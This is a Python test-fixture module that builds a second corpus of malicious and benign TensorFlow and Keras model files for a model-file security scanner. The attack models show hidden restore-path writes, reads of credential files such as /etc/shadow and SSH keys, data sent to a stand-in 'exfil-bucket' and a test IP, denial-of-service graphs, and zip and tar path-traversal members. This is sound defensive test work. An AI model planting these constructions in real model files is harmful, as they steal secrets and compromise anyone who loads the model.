"""The second attack corpus for ``scan`` (issue 25) and the ordinary models it must pass, built with TensorFlow.

:data:`ATTACKS` are the blind spots of the first corpus (``scan_attacks.py``):
writes hidden in the saver's restore path, ops that open files through an
attribute or take vocabulary files, graphs serialized into constants, asset
names leaving the model, paths carried into tf.data's reader functions,
remote URLs, secrets, denial of service, and the formats people download
besides SavedModels (Keras ``.h5`` and ``.keras``, ``.zip`` and ``.tar.gz``
archives). :data:`BENIGN` are ordinary models that must pass: TF2 vocabulary
tables (``StaticHashTable``, Keras ``StringLookup``/``TextVectorization``), a
TF1 training graph reading its data from ``gs://``, a second TF1 ``Saver`` (as TensorFlow 1.x wrote it and as today), an ``eval``
SavedModel re-exported from a TF2 one, bounded loops, fed queues, a moderate
``Fill``, plain Keras files and an archive of a SavedModel.

:func:`build` writes them with TensorFlow in a subprocess (nothing binary is
committed) and returns what TensorFlow itself did on load for the attacks
that claim to run on load (``oracle.json``): the restore-path writes, run by
TensorFlow's own v1 loader, and an absolute asset name, opened by
``tf.saved_model.load``. Every path an attack names is under ``TARGET``,
where each named file is a FIFO (an open would block) or unreadable.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent


@dataclass(frozen=True)
class Attack:
    name: str          # file or folder under the attack folder
    op: str            # the op type (or Keras layer type, "archive member") scan must flag
    function: str      # part of a function on the route to it ("" when none is asserted)
    value: str         # part of a resolved value, of the finding's reason, or of the Python function's name
    capability: str
    severity: str      # the severity scan must give


ATTACKS = [
    # Restore path: a write the restore op waits on, its prefix rewritten away from the fed file name.
    Attack("restore_path_write_tf1", "SaveV2", "", "restore_exfil_tf1", "write-files", "high"),
    Attack("restore_path_write_tf2", "SaveV2", "", "restore_exfil_tf2", "write-files", "high"),
    Attack("restore_function_write_tf2", "SaveV2", "traced_restore", "restore_exfil_fn", "write-files", "high"),
    # Files opened through an attribute, vocabulary files as inputs, graphs serialized in constants.
    Attack("attr_descriptor_source", "DecodeProtoV2", "hidden", "descriptors.bin", "read-files", "medium"),
    Attack("read_vocab_remapping", "GenerateVocabRemapping", "hidden", "old_vocab.txt", "read-files", "medium"),
    Attack("read_unigram_vocab", "FixedUnigramCandidateSampler", "hidden", "counts.txt", "read-files", "medium"),
    Attack("dataset_from_graph", "TextLineDataset", "hidden", "passwd", "read-files", "medium"),
    Attack("dataset_from_graph_argument", "TextLineDataset", "graph_caller", "passwd", "read-files", "medium"),
    # Asset file names that leave the model.
    Attack("asset_absolute", "InitializeTableFromTextFileV2", "initializer", "vocab_secret", "read-files", "high"),
    Attack("asset_dotdot_tf1", "InitializeTableFromTextFileV2", "", "target/passwd", "read-files", "high"),
    # Paths that reach tf.data's reader functions, remote URLs, secrets.
    Attack("dataset_gs_tfrecord", "TFRecordDataset", "hidden", "gs://exfil-bucket/records", "network", "high"),
    Attack("dataset_environ_interleave", "TextLineDataset", "hidden", "/proc/self/environ", "read-files", "high"),
    Attack("dataset_captured_read", "ReadFile", "hidden", "shadow", "read-files", "medium"),
    Attack("write_save_v2_gs", "SaveV2", "hidden", "gs://exfil-bucket/ckpt", "network", "high"),
    Attack("read_file_https", "ReadFile", "hidden", "https://203.0.113.10/payload", "network", "high"),
    Attack("read_etc_shadow", "ReadFile", "hidden", "/etc/shadow", "read-files", "high"),
    Attack("read_ssh_key", "ReadFile", "hidden", ".ssh/id_rsa", "read-files", "high"),
    # Denial of service.
    Attack("dos_sleep_dataset", "SleepDataset", "hidden", "sleep", "denial-of-service", "medium"),
    Attack("dos_fill_huge", "Fill", "hidden", "TiB", "denial-of-service", "medium"),
    Attack("dos_random_huge", "RandomUniform", "hidden", "GiB", "denial-of-service", "medium"),
    Attack("dos_while_forever", "StatelessWhile", "hidden", "never", "denial-of-service", "medium"),
    Attack("dos_while_forever_tf1", "LoopCond", "", "never", "denial-of-service", "medium"),
    Attack("dos_dequeue_forever", "QueueDequeueV2", "hidden", "nothing", "denial-of-service", "medium"),
    Attack("dos_abort", "Abort", "hidden", "ends the process", "denial-of-service", "medium"),
    # Formats people download besides SavedModels.
    Attack("keras2_lambda.h5", "Lambda layer", "", "steal", "python", "high"),
    Attack("keras3_custom_module.keras", "Dense layer", "", "evilpkg", "python", "medium"),
    Attack("archive_read_file.zip", "ReadFile", "", "passwd", "read-files", "medium"),
    Attack("archive_write_file.tar.gz", "WriteFile", "", "dropped.sh", "write-files", "high"),
    Attack("archive_traversal.zip", "archive member", "", "../../escaped.txt", "write-files", "high"),
    Attack("archive_traversal.tar", "archive member", "", "/tmp/evil_link", "write-files", "high"),
]

BENIGN = [
    "tf2_static_hash_table", "keras3_string_lookup", "keras3_text_vectorization", "keras2_string_lookup",
    "tf1_second_saver", "tf1_second_saver_old_tf", "tf1_two_savers_ckpt", "tf1_training_gcs_input",
    "eval_tag_resaved", "bounded_while",
    "bounded_while_tf1", "fed_queue", "moderate_fill", "keras3_dense.keras", "keras2_dense.h5",
    "savedmodel_archive.zip", "savedmodel_archive.tar.gz",
]

# Files the attacks name under TARGET: FIFOs (a read would block forever).
FIFOS = ("passwd", "shadow", "descriptors.bin", "old_vocab.txt", "new_vocab.txt", "counts.txt", "vocab_secret",
         ".ssh/id_rsa")

BUILD = r'''
import io, json, os, shutil, sys, tarfile, zipfile
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import tensorflow as tf
from tensorflow.core.protobuf import saved_model_pb2

out, benign, target = sys.argv[1], sys.argv[2], sys.argv[3]
T = lambda name: os.path.join(target, name)
v1 = tf.compat.v1
spec = [tf.TensorSpec([2], tf.float32)]
oracle = {}
scratch = os.path.join(out, ".scratch")
os.makedirs(scratch, exist_ok=True)


def save(name, hidden, result=lambda x, r: x, folder=out):
    class M(tf.Module):
        @tf.function(input_signature=spec)
        def serve(self, x):
            return {"y": result(x, hidden(x))}
    m = M()
    tf.saved_model.save(m, os.path.join(folder, name), signatures={"serving_default": m.serve})


def hide(fn, name):
    fn.__name__ = "hidden_" + name
    return tf.function(fn)


def first(ds):
    return tf.data.experimental.get_single_element(ds.take(1))


def strlen(t):
    return tf.cast(tf.reduce_sum(tf.strings.length(t)), tf.float32)


def effect(name, op_fn):
    def fn(x):
        op_fn(x)
        return x
    return hide(fn, name)


def read_pb(folder):
    sm = saved_model_pb2.SavedModel()
    with open(os.path.join(folder, "saved_model.pb"), "rb") as f:
        sm.ParseFromString(f.read())
    return sm


def write_pb(folder, sm):
    with open(os.path.join(folder, "saved_model.pb"), "wb") as f:
        f.write(sm.SerializeToString())


def evil_nodes(filename_op, rewrite):
    """NodeDefs of RegexReplace(filename) -> SaveV2, reading the op named filename_op."""
    g = tf.Graph()
    with g.as_default():
        fed = v1.placeholder(tf.string, [], name=filename_op)
        prefix = tf.strings.regex_replace(fed, "^.*$", rewrite, replace_global=False, name="evil/prefix")
        tf.raw_ops.SaveV2(prefix=prefix, tensor_names=["x"], shape_and_slices=[""],
                          tensors=[tf.constant([1.0], name="evil/value")], name="evil/save")
    return [n for n in g.as_graph_def().node if n.name != filename_op]


def v1_load_runs(folder, tags=("serve",)):
    with tf.Graph().as_default(), v1.Session() as s:
        v1.saved_model.load(s, list(tags), folder)


# ---------------------------------------------------------------- restore path, TF1
g = tf.Graph()
with g.as_default():
    x = v1.placeholder(tf.float32, [2], name="x")
    w = v1.get_variable("w", [2], initializer=v1.ones_initializer())
    y = x * w
    saver = v1.train.Saver()
    fname = g.get_tensor_by_name(saver.saver_def.filename_tensor_name)
    prefix = tf.strings.regex_replace(fname, "^.*$", T("restore_exfil_tf1"), replace_global=False)
    evil = tf.raw_ops.SaveV2(prefix=prefix, tensor_names=["stolen"], shape_and_slices=[""], tensors=[tf.constant([1.0])])
    g.get_operation_by_name(saver.saver_def.restore_op_name)._add_control_input(evil)
    with v1.Session(graph=g) as s:
        s.run(v1.global_variables_initializer())
        b = v1.saved_model.Builder(os.path.join(out, "restore_path_write_tf1"))
        b.add_meta_graph_and_variables(s, ["serve"], saver=saver, signature_def_map={
            "serving_default": v1.saved_model.predict_signature_def({"x": x}, {"y": y})})
        b.save()
v1_load_runs(os.path.join(out, "restore_path_write_tf1"))
oracle["restore_path_write_tf1"] = os.path.exists(T("restore_exfil_tf1.index"))


# ---------------------------------------------------------------- restore path, TF2 (top level and restore function)
class Var(tf.Module):
    def __init__(self):
        self.v = tf.Variable([1.0, 2.0])

    @tf.function(input_signature=spec)
    def serve(self, x):
        return {"y": x * self.v}


for name in ("restore_path_write_tf2", "restore_function_write_tf2"):
    m = Var()
    folder = os.path.join(out, name)
    tf.saved_model.save(m, folder, signatures={"serving_default": m.serve})
    sm = read_pb(folder)
    meta = sm.meta_graphs[0]
    restore_op = meta.saver_def.restore_op_name
    filename_op = meta.saver_def.filename_tensor_name.split(":")[0]
    if name == "restore_path_write_tf2":
        meta.graph_def.node.extend(evil_nodes(filename_op, T("restore_exfil_tf2")))
        for node in meta.graph_def.node:
            if node.name == restore_op:
                node.input.append("^evil/save")
    else:
        restore_fn = [n for n in meta.graph_def.node if n.name == restore_op][0].attr["f"].func.name
        fdef = [f for f in meta.graph_def.library.function if f.signature.name == restore_fn][0]
        arg = fdef.signature.input_arg[0].name
        for node in evil_nodes("ARG", T("restore_exfil_fn")):
            node.name = node.name.replace("/", "_")
            inputs = []
            for i in node.input:
                if i == "ARG":
                    inputs.append(arg)
                else:
                    op, _, idx = i.partition(":")
                    op = op.replace("/", "_")
                    inputs.append(f"{op}:output:{idx or 0}")
            del node.input[:]
            node.input.extend(inputs)
            fdef.node_def.append(node)
        # A function with control outputs runs its stateful ops only when they are among them.
        fdef.signature.control_output.append("evil_save")
        fdef.control_ret["evil_save"] = "evil_save"
    write_pb(folder, sm)
    v1_load_runs(folder)
    oracle[name] = os.path.exists(T({"restore_path_write_tf2": "restore_exfil_tf2",
                                     "restore_function_write_tf2": "restore_exfil_fn"}[name] + ".index"))


# ---------------------------------------------------------------- ops that open files through attributes and inputs
save("attr_descriptor_source", hide(lambda x: strlen(tf.io.decode_proto(
    bytes=tf.constant([b""]), message_type="tensorflow.Example", field_names=["features"],
    output_types=[tf.string], descriptor_source=T("descriptors.bin")).values[0]), "descriptor"),
    lambda x, r: x + r)
save("read_vocab_remapping", hide(lambda x: tf.cast(tf.raw_ops.GenerateVocabRemapping(
    new_vocab_file=T("new_vocab.txt"), old_vocab_file=T("old_vocab.txt"), new_vocab_offset=0,
    num_new_vocab=1)[1], tf.float32), "remap"), lambda x, r: x + r)
save("read_unigram_vocab", hide(lambda x: tf.cast(tf.random.fixed_unigram_candidate_sampler(
    true_classes=tf.constant([[0]], tf.int64), num_true=1, num_sampled=1, unique=True, range_max=3,
    vocab_file=T("counts.txt"))[0][0], tf.float32), "sampler"), lambda x, r: x + r)
graph_def = tf.raw_ops.DatasetToGraphV2(input_dataset=tf.data.TextLineDataset(T("passwd"))._variant_tensor).numpy()


def from_graph(x):
    ds = tf.raw_ops.DatasetFromGraph(graph_def=tf.constant(graph_def))
    return strlen(tf.raw_ops.DatasetToSingleElement(dataset=ds, output_types=[tf.string], output_shapes=[[]])[0])
save("dataset_from_graph", hide(from_graph, "from_graph"), lambda x, r: x + r)


@tf.function
def run_graph(serialized):
    ds = tf.raw_ops.DatasetFromGraph(graph_def=serialized)
    return strlen(tf.raw_ops.DatasetToSingleElement(dataset=ds, output_types=[tf.string], output_shapes=[[]])[0])
save("dataset_from_graph_argument", hide(lambda x: run_graph(tf.constant(graph_def)), "graph_caller"),
     lambda x, r: x + r)


# ---------------------------------------------------------------- asset names that leave the model
vocab = os.path.join(scratch, "vocab.txt")
with open(vocab, "w") as f:
    f.write("a\nb\nc\n")


class Table(tf.Module):
    def __init__(self, path):
        self.table = tf.lookup.StaticHashTable(tf.lookup.TextFileInitializer(
            path, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER), -1)

    @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
    def serve(self, x):
        return {"y": self.table.lookup(x)}


def table_model(folder, path=vocab):
    m = Table(path)
    tf.saved_model.save(m, folder, signatures={"serving_default": m.serve})


def rename_asset(folder, filename):
    """Every AssetFileDef of the SavedModel names ``filename`` (TF1 builders keep them in a collection)."""
    from tensorflow.core.protobuf import meta_graph_pb2
    sm = read_pb(folder)
    for meta in sm.meta_graphs:
        for asset in meta.asset_file_def:
            asset.filename = filename
        if "saved_model_assets" in meta.collection_def:
            for item in meta.collection_def["saved_model_assets"].any_list.value:
                asset = meta_graph_pb2.AssetFileDef()
                item.Unpack(asset)
                asset.filename = filename
                item.Pack(asset)
    write_pb(folder, sm)


table_model(os.path.join(out, "asset_absolute"))
rename_asset(os.path.join(out, "asset_absolute"), T("vocab_secret"))
# The oracle, on a copy pointing at a regular file: TensorFlow opens the absolute name, not assets/.
plain = os.path.join(scratch, "outside_vocab.txt")
with open(plain, "w") as f:
    f.write("outside\n")
table_model(os.path.join(scratch, "asset_absolute_oracle"))
rename_asset(os.path.join(scratch, "asset_absolute_oracle"), plain)
loaded = tf.saved_model.load(os.path.join(scratch, "asset_absolute_oracle"))
oracle["asset_absolute"] = int(loaded.signatures["serving_default"](tf.constant(["outside"]))["y"][0]) == 0

g = tf.Graph()
with g.as_default():
    x = v1.placeholder(tf.string, [None], name="x")
    asset = tf.constant(vocab, name="vocab_asset")
    v1.add_to_collection(v1.GraphKeys.ASSET_FILEPATHS, asset)
    table = tf.lookup.StaticHashTable(tf.lookup.TextFileInitializer(
        asset, tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER), -1)
    y = table.lookup(x)
    with v1.Session(graph=g) as s:
        s.run(v1.tables_initializer())
        b = v1.saved_model.Builder(os.path.join(out, "asset_dotdot_tf1"))
        b.add_meta_graph_and_variables(s, ["serve"], main_op=v1.tables_initializer(),
                                       assets_collection=v1.get_collection(v1.GraphKeys.ASSET_FILEPATHS),
                                       signature_def_map={"serving_default":
                                                          v1.saved_model.predict_signature_def({"x": x}, {"y": y})})
        b.save()
rename_asset(os.path.join(out, "asset_dotdot_tf1"), "../../../target/passwd")

# ---------------------------------------------------------------- tf.data reader functions, URLs, secrets
save("dataset_gs_tfrecord", hide(lambda x: strlen(first(tf.data.TFRecordDataset(["gs://exfil-bucket/records"]))),
                                 "gs"), lambda x, r: x + r)
save("dataset_environ_interleave", hide(lambda x: strlen(first(
    tf.data.Dataset.from_tensor_slices(["/proc/self/environ"]).interleave(tf.data.TextLineDataset))), "environ"),
    lambda x, r: x + r)


def captured(x):
    path = tf.strings.join([T(""), "shadow"])
    return strlen(first(tf.data.Dataset.range(1).map(lambda i: tf.io.read_file(path))))
save("dataset_captured_read", hide(captured, "captured"), lambda x, r: x + r)
save("write_save_v2_gs", effect("gs_save", lambda x: tf.raw_ops.SaveV2(
    prefix="gs://exfil-bucket/ckpt", tensor_names=["x"], shape_and_slices=[""], tensors=[x])))
save("read_file_https", hide(lambda x: strlen(tf.io.read_file("https://203.0.113.10/payload")), "https"),
     lambda x, r: x + r)
save("read_etc_shadow", hide(lambda x: strlen(tf.io.read_file("/etc/shadow")), "shadow"), lambda x, r: x + r)
save("read_ssh_key", hide(lambda x: strlen(tf.io.read_file(T(".ssh/id_rsa"))), "ssh"), lambda x, r: x + r)


# ---------------------------------------------------------------- denial of service
def sleeping(x):
    ds = tf.data.Dataset.from_tensors(x)
    ds = tf.raw_ops.SleepDataset(input_dataset=ds._variant_tensor, sleep_microseconds=3600 * 10**6,
                                 output_types=[tf.float32], output_shapes=[[2]])
    return tf.raw_ops.DatasetToSingleElement(dataset=ds, output_types=[tf.float32], output_shapes=[[2]])[0]
save("dos_sleep_dataset", hide(sleeping, "sleep"), lambda x, r: r)
save("dos_fill_huge", hide(lambda x: tf.reduce_sum(tf.fill([2**20, 2**20], 1.0)), "fill"), lambda x, r: x + r)
save("dos_random_huge", hide(lambda x: tf.reduce_sum(tf.random.uniform([2**16, 2**16, 4])), "random"),
     lambda x, r: x + r)
save("dos_while_forever", hide(lambda x: tf.cast(tf.while_loop(lambda i: i >= 0, lambda i: i + 1,
                                                               [tf.constant(0)])[0], tf.float32), "loop"),
     lambda x, r: x + r)
save("dos_abort", effect("abort", lambda x: tf.raw_ops.Abort(error_msg="bye")))

g = tf.Graph()
with g.as_default():
    v1.disable_control_flow_v2()
    x = v1.placeholder(tf.float32, [2], name="x")
    n = tf.while_loop(lambda i: i >= 0, lambda i: i + 1, [tf.constant(0)])
    y = x + tf.cast(n, tf.float32)
    with v1.Session(graph=g) as s:
        b = v1.saved_model.Builder(os.path.join(out, "dos_while_forever_tf1"))
        b.add_meta_graph_and_variables(s, ["serve"], signature_def_map={
            "serving_default": v1.saved_model.predict_signature_def({"x": x}, {"y": y})})
        b.save()
g = tf.Graph()
with g.as_default():
    x = v1.placeholder(tf.float32, [2], name="x")
    y = x + tf.while_loop(lambda i: i < 10, lambda i: i + 1.0, [tf.constant(0.0)])
    with v1.Session(graph=g) as s:
        b = v1.saved_model.Builder(os.path.join(benign, "bounded_while_tf1"))
        b.add_meta_graph_and_variables(s, ["serve"], signature_def_map={
            "serving_default": v1.saved_model.predict_signature_def({"x": x}, {"y": y})})
        b.save()
v1.enable_control_flow_v2()


def queue(fed):
    def fn(x):
        q = tf.raw_ops.FIFOQueueV2(component_types=[tf.float32], shapes=[[2]], capacity=4)
        if fed:
            tf.raw_ops.QueueEnqueueV2(handle=q, components=[x])
        return tf.raw_ops.QueueDequeueV2(handle=q, component_types=[tf.float32])[0]
    return fn


save("dos_dequeue_forever", hide(queue(False), "dequeue"), lambda x, r: r)
save("fed_queue", hide(queue(True), "dequeue"), lambda x, r: r, folder=benign)
save("bounded_while", tf.function(lambda x: tf.while_loop(lambda i, v: i < 10, lambda i, v: (i + 1, v * 2.0),
                                                          [tf.constant(0), x])[1]), folder=benign)
save("moderate_fill", hide(lambda x: tf.reduce_sum(tf.fill([1000, 1000], 1.0)), "fill"), lambda x, r: x + r,
     folder=benign)

# ---------------------------------------------------------------- ordinary models: vocabulary tables
table_model(os.path.join(benign, "tf2_static_hash_table"))
import keras
for name, layer in (("keras3_string_lookup", keras.layers.StringLookup(vocabulary=vocab)),
                    ("keras3_text_vectorization", keras.layers.TextVectorization(vocabulary=vocab))):
    inp = keras.Input((1,), dtype="string")
    keras.Model(inp, layer(inp)).export(os.path.join(benign, name))
import tf_keras
inp = tf_keras.Input((1,), dtype="string")
tf_keras.Model(inp, tf_keras.layers.StringLookup(vocabulary=vocab)(inp)).save(
    os.path.join(benign, "keras2_string_lookup"), save_format="tf")

# ---------------------------------------------------------------- ordinary models: several savers
for name in ("tf1_second_saver", "tf1_second_saver_old_tf"):
    g = tf.Graph()
    with g.as_default():
        x = v1.placeholder(tf.float32, [None, 2], name="x")
        w = v1.get_variable("w", [2, 1])
        b_ = v1.get_variable("b", [1])
        y = tf.matmul(x, w) + b_
        pretrained = v1.train.Saver([w])
        with v1.Session(graph=g) as s:
            s.run(v1.global_variables_initializer())
            b = v1.saved_model.Builder(os.path.join(benign, name))
            b.add_meta_graph_and_variables(s, ["serve"], signature_def_map={
                "serving_default": v1.saved_model.predict_signature_def({"x": x}, {"y": y})})
            b.save()
    if name.endswith("old_tf"):
        # TensorFlow 1.x wrote a Saver's file name as a Const "model" (no PlaceholderWithDefault).
        folder = os.path.join(benign, name)
        sm = read_pb(folder)
        nodes = sm.meta_graphs[0].graph_def.node
        for node in nodes:
            if node.name == "save/Const":
                value = tf.make_tensor_proto("model")
                node.Clear()
                node.name, node.op = "save/Const", "Const"
                node.attr["dtype"].type = value.dtype
                node.attr["value"].tensor.CopyFrom(value)
        keep = [n for n in nodes if n.name not in ("save/filename", "save/filename/input")]
        del nodes[:]
        nodes.extend(keep)
        write_pb(folder, sm)
    v1_load_runs(os.path.join(benign, name))
g = tf.Graph()
with g.as_default():
    x = v1.placeholder(tf.float32, [None, 2], name="x")
    w = v1.get_variable("w", [2, 1])
    y = tf.matmul(x, w)
    main, sub = v1.train.Saver(), v1.train.Saver([w], sharded=True)
    with v1.Session(graph=g) as s:
        s.run(v1.global_variables_initializer())
        os.makedirs(os.path.join(benign, "tf1_two_savers_ckpt"), exist_ok=True)
        main.save(s, os.path.join(benign, "tf1_two_savers_ckpt", "model.ckpt"))
g = tf.Graph()
with g.as_default():
    # A TF1 training graph whose input pipeline reads from Cloud Storage: ordinary, training input.
    record = v1.data.make_one_shot_iterator(tf.data.TFRecordDataset(["gs://training-bucket/train-00000"])).get_next()
    w = v1.get_variable("w", [1])
    loss = tf.reduce_sum(w * tf.cast(tf.strings.length(record), tf.float32))
    train = v1.train.GradientDescentOptimizer(0.1).minimize(loss)
    saver = v1.train.Saver()
    with v1.Session(graph=g) as s:
        s.run(v1.global_variables_initializer())
        os.makedirs(os.path.join(benign, "tf1_training_gcs_input"), exist_ok=True)
        saver.save(s, os.path.join(benign, "tf1_training_gcs_input", "model.ckpt"))
m = Var()
tf.saved_model.save(m, os.path.join(scratch, "tf2_source"), signatures={"serving_default": m.serve})
with tf.Graph().as_default(), v1.Session() as s:
    mg = v1.saved_model.load(s, ["serve"], os.path.join(scratch, "tf2_source"))
    b = v1.saved_model.Builder(os.path.join(benign, "eval_tag_resaved"))
    b.add_meta_graph_and_variables(s, ["eval"], signature_def_map={"eval": mg.signature_def["serving_default"]})
    b.save()
v1_load_runs(os.path.join(benign, "eval_tag_resaved"), ("eval",))

# ---------------------------------------------------------------- Keras files
def steal(t):
    import os
    os.getcwd()
    return t * 2
tf_keras.Sequential([tf_keras.layers.InputLayer(input_shape=(2,)), tf_keras.layers.Lambda(steal, name="helper")]).save(
    os.path.join(out, "keras2_lambda.h5"), save_format="h5")
tf_keras.Sequential([tf_keras.layers.InputLayer(input_shape=(2,)), tf_keras.layers.Dense(1)]).save(
    os.path.join(benign, "keras2_dense.h5"), save_format="h5")
keras.Sequential([keras.Input((2,)), keras.layers.Dense(1, name="dense")]).save(
    os.path.join(benign, "keras3_dense.keras"))
with zipfile.ZipFile(os.path.join(benign, "keras3_dense.keras")) as src, \
        zipfile.ZipFile(os.path.join(out, "keras3_custom_module.keras"), "w") as dst:
    for info in src.infolist():
        data = src.read(info)
        if info.filename == "config.json":
            config = json.loads(data)
            for layer in config["config"]["layers"]:
                if layer["class_name"] == "Dense":
                    layer["module"] = "evilpkg.layers"
                    layer["registered_name"] = "Dense"
            data = json.dumps(config).encode()
        dst.writestr(info, data)

# ---------------------------------------------------------------- archives
def zip_folder(folder, archive, prefix):
    with zipfile.ZipFile(archive, "w") as z:
        for base, _, files in os.walk(folder):
            for f in files:
                path = os.path.join(base, f)
                z.write(path, os.path.join(prefix, os.path.relpath(path, folder)))


save("read_file", hide(lambda x: strlen(tf.io.read_file(T("passwd"))), "read"), lambda x, r: x + r, folder=scratch)
save("write_file", effect("write", lambda x: tf.io.write_file(T("dropped.sh"), tf.strings.as_string(x)[0])),
     folder=scratch)
zip_folder(os.path.join(scratch, "read_file"), os.path.join(out, "archive_read_file.zip"), "model/1")
with tarfile.open(os.path.join(out, "archive_write_file.tar.gz"), "w:gz") as t:
    t.add(os.path.join(scratch, "write_file"), "export/write_file")
zip_folder(os.path.join(benign, "tf2_static_hash_table"), os.path.join(out, "archive_traversal.zip"), "model")
with zipfile.ZipFile(os.path.join(out, "archive_traversal.zip"), "a") as z:
    z.writestr("model/../../escaped.txt", "written outside the folder it is extracted to")
with tarfile.open(os.path.join(out, "archive_traversal.tar"), "w") as t:
    t.add(os.path.join(benign, "tf2_static_hash_table"), "model")
    link = tarfile.TarInfo("model/assets/evil_link")
    link.type, link.linkname = tarfile.SYMTYPE, "/tmp/evil_link"
    t.addfile(link)
zip_folder(os.path.join(benign, "tf2_static_hash_table"), os.path.join(benign, "savedmodel_archive.zip"), "m")
with tarfile.open(os.path.join(benign, "savedmodel_archive.tar.gz"), "w:gz") as t:
    t.add(os.path.join(benign, "keras3_string_lookup"), "keras3_string_lookup")

shutil.rmtree(scratch)
with open(os.path.join(out, "..", "oracle.json"), "w") as f:
    json.dump(oracle, f)
print("built")
'''


def make_target(target: Path) -> None:
    target.mkdir(parents=True, exist_ok=True)
    for name in FIFOS:
        (target / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(target / name)


def build(out: Path, benign: Path, target: Path) -> dict:
    """Write the attacks into ``out``, the ordinary models into ``benign``; return TensorFlow's oracle."""
    make_target(target)
    out.mkdir(parents=True, exist_ok=True)
    benign.mkdir(parents=True, exist_ok=True)
    env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "CUDA_VISIBLE_DEVICES": ""}
    proc = subprocess.run([sys.executable, "-c", BUILD, str(out), str(benign), str(target)], capture_output=True,
                          text=True, env=env, cwd=ROOT, timeout=900)
    if proc.returncode != 0 or "built" not in proc.stdout:
        raise RuntimeError(f"building the second attack corpus failed:\n{proc.stderr[-4000:]}")
    return json.loads((out.parent / "oracle.json").read_text())
